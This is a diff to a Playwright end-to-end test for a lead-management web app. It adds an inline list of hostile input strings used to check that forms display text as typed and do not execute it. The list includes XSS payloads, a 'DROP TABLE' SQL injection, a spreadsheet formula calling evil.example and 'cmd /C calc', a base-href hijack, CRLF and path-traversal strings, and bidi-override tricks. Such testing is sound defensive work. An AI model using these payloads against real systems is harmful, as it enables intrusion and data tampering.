@@ -1,11 +1,47 @@
 import type { Page } from '@playwright/test';
 import { leadStatuses } from '../../src/contract/leadCodes';
 import { createLead, createMasterSetting, createNote, createTeamLeader, createUser } from '../support/factories';
-import { hostileTexts } from '../support/hostileTexts';
 import type { Product } from '../support/startProduct';
 import { applicationStands, expect, open, test as base } from './fixtures';
 import { draftKept } from './leadFormPage';
 import { cutOf, holdBack } from './screenChecks';
+
+/** Sets `window.__pwned` when it runs. */
+const run = 'window.__pwned=1';
+
+/** Each fits a line (150 characters) and must stay as typed. */
+const hostileTexts: readonly string[] = [
+  `<script>${run}</script>`,
+  `</script><script>${run}</script>`,
+  `"><img src=x onerror="${run}">`,
+  `' onmouseover='${run}' x='`,
+  `<svg/onload=${run}>`,
+  `<iframe srcdoc="<script>parent.${run}</script>">`,
+  `javascript:${run}`,
+  `<a href="javascript:${run}">press</a>`,
+  `{{constructor.constructor('${run}')()}}`,
+  `\${${run}} #{${run}} <%= ${run} %>`,
+  `<!-- comment --!><b>bold</b>`,
+  `<style>*{display:none}</style>`,
+  `<base href="https://evil.example/"><form action=//evil.example>`,
+  `]]></textarea></title></style><x onfocus=${run} autofocus>`,
+  'abc\u202Edlrow olleh\u202C def',
+  'left\u202Eonly opened',
+  '\u2069\u202Eout of the isolate',
+  'שלום עולם (test) 123',
+  'zero\u200Bwidth\u200Djoin\uFEFFmark\u2060',
+  `Z${'\u0301\u0323\u0342\u0489'.repeat(18)}algo${'\u0330\u0303'.repeat(20)}`,
+  'W'.repeat(150),
+  'longwordwithoutanyspace'.repeat(6),
+  '👨‍👩‍👧‍👦👩🏽‍🚀🏳️‍🌈🇮🇳'.repeat(4),
+  `"double" 'single' \`back\` “curly” «guillemets» &quot; &#39; &lt;b&gt;`,
+  `Robert'); DROP TABLE leads;-- `.trim(),
+  `=HYPERLINK("http://evil.example","x")+cmd|' /C calc'!A0`,
+  '\u001b[31mred\u001b[0m\u001b]8;;http://evil.example\u0007',
+  'null',
+  'undefined NaN [object Object] false',
+  '%00%0d%0aSet-Cookie:x=1 ..\\..\\ %s%n {0}',
+];
 
 const admin = { name: 'Asha\u202Eoar', phone: '9888800001' };
 const companyName = `</script><script>window.__pwned=1</script><b>Palm\u202Esetats`;
